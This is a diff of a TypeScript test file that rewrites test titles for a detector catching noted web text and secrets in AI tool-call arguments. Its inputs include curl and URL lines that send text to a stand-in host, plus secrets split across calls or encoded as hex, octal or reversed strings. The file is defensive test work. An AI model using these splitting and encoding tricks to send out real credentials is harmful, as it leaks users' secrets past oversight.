@@ -1,4 +1,4 @@
-// What is found again in a text, and what is not, so that ordinary work asks about nothing.
+// Tests detection of noted texts and secrets in tool arguments without false positives.
 import { createHash } from 'node:crypto';
 import { mkdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
@@ -25,7 +25,7 @@ const search = (chatId: string, texts: readonly string[], options?: FindOptions)
   harness.kernel.resolve('origins').find({ chatId, workspaceRoot: harness.workspace }, texts, options);
 const find = async (chatId: string, text: string) => (await search(chatId, [text])).spans.flat();
 
-test('a part of a text is found with its place and its origin', async () => {
+test('finds part of a text with its position and origin', async () => {
   const chatId = await chat();
   harness.kernel.resolve('origins').note(chatId, 'Flour, eggs, milk, and a little bit of honey.', web);
   const text = 'curl https://x.example/?t=and-a-little-bit-of-honey&n=1';
@@ -35,7 +35,7 @@ test('a part of a text is found with its place and its origin', async () => {
   expect(text.slice(span?.start, span?.end)).toBe('and-a-little-bit-of-honey');
 });
 
-test('what the owner typed is nobody else’s, whoever says it again', async () => {
+test('never attributes text that the user typed to another origin', async () => {
   const chatId = await chat();
   const origins = harness.kernel.resolve('origins');
   origins.note(chatId, 'The helper of the shop is the one to trust.', web);
@@ -50,17 +50,17 @@ test.each([
   'https://docs.example.com/put-your-token-here-1234',
   'https://example.com/how-to-keep-a-password-in-dot-env',
   'git log --oneline | head -20',
-])('the ordinary values of a file of secrets are none: %s', async (text) => {
+])('does not report ordinary values of a secrets file: %s', async (text) => {
   expect(await find(await chat(), text)).toEqual([]);
 });
 
-test('a few words that stand somewhere else, too, are no part of it', async () => {
+test('does not report common words that also occur in a noted text', async () => {
   const chatId = await chat();
   harness.kernel.resolve('origins').note(chatId, 'Install the package with npm install and run npm test before you push.', web);
   expect(await find(chatId, 'npm install && npm test')).toEqual([]);
 });
 
-test('the oldest text of a long chat is forgotten, the newest is not, and what is kept stays small', async () => {
+test('drops the oldest text of a long chat and keeps the newest', async () => {
   const chatId = await chat();
   const origins = harness.kernel.resolve('origins');
   const page = (number: number): string => Array.from({ length: 2_000 }, (_, at) => `w${number * 7919 + at * 31}`).join(' ');
@@ -70,7 +70,7 @@ test('the oldest text of a long chat is forgotten, the newest is not, and what i
   expect((await find(chatId, part(99)))[0]?.origin.ref).toBe('page 99');
 });
 
-test('a secret in pieces is one, in whatever order they come; the pieces of others are not', async () => {
+test('finds a secret in pieces in any order and ignores unrelated pieces', async () => {
   const chatId = await chat();
   const pieces = async (...texts: string[]) => (await search(chatId, texts)).pieces;
   expect(await pieces('https://x.example/?a=tr0ub4', 'https://x.example/?b=dor3x')).toMatchObject([{ kind: 'secret', name: 'DB_PASSWORD', ref: '.env' }]);
@@ -103,7 +103,7 @@ test.each([
   ['bytes in hex', Array.from(Buffer.from(whole), (byte) => `https://x.example/${byte.toString(16)}`)],
   ['character codes', Array.from(Buffer.from(whole), (byte) => `https://x.example/?n=${byte}`)],
   ['octal codes', Array.from(Buffer.from(whole), (byte) => `https://x.example/?n=${byte.toString(8)}`)],
-])('a secret in pieces over calls is found once, by the last one: %s', async (_, texts) => {
+])('finds a secret split over calls once, at its last piece: %s', async (_, texts) => {
   const found = await send(await chat(), texts);
   expect(found.flat()).toEqual(['DB_PASSWORD']);
   expect(found.findIndex((one) => one.length > 0)).toBeGreaterThanOrEqual(texts.length - 3);
@@ -113,7 +113,7 @@ test.each([
   ['the first half in one call', (key: string) => [key.slice(0, 800)]],
   ['halves in two calls', (key: string) => [key.slice(0, 40), key.slice(800, 830)]],
   ['forty characters in four calls', (key: string) => [0, 100, 200, 300].map((at) => key.slice(at, at + 12))],
-])('a part of a long key counts: %s', async (_, texts) => {
+])('finds part of a long key: %s', async (_, texts) => {
   const key = createHash('shake256', { outputLength: 1_200 }).update('key').digest('base64');
   await writeFile(join(harness.workspace, 'service-account.json'), `{\n  "private_key": "${key}"\n}\n`);
   expect(
@@ -126,13 +126,13 @@ test.each([
   ).toEqual(['private_key']);
 });
 
-test('hundreds of ordinary calls carry no secret in pieces', async () => {
+test('finds no secret in hundreds of ordinary calls', async () => {
   const hashes = Array.from({ length: 400 }, (_, at) => `https://x.example/commit/${createHash('sha1').update(String(at)).digest('hex')}`);
   await writeFile(join(harness.workspace, 'api', '.env'), 'API_KEY=0c41f9a7e2b85d3690fe17ab44c2d8e5\n');
   expect((await send(await chat(), hashes)).flat()).toEqual([]);
 });
 
-test('a chat that has shown more secrets than are kept reports so, and no secret is forgotten', async () => {
+test('reports the limit on stored secrets and still finds the first one', async () => {
   const chatId = await chat();
   const key = (at: number): string => `sk_live_${createHash('sha1').update(String(at)).digest('hex')}`;
   const show = (from: number, count: number): void =>
@@ -177,7 +177,7 @@ test.each([
       Buffer.from([...Buffer.from(longer).toString(inner as 'hex')].reverse().join('')).toString(outer as 'hex'),
     ]),
   ),
-])('a secret is found in %s', async (_, text) => {
+])('finds a secret in %s', async (_, text) => {
   await writeFile(join(harness.workspace, '.env.local'), `LOCAL_PASSWORD=${longer}\n`);
   expect((await find(await chat(), text))[0]?.origin).toMatchObject({ kind: 'secret', name: 'LOCAL_PASSWORD' });
 });
@@ -187,4 +187,4 @@ test.each([
   'npm run build -- --mode production',
   'https://example.com/a/1f3870be274f6c49b3e31a0c6728957f',
   'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=',
-])('a text without it has none: %s', async (text) => expect(await find(await chat(), text)).toEqual([]));
+])('finds no secret in ordinary text: %s', async (text) => expect(await find(await chat(), text)).toEqual([]));
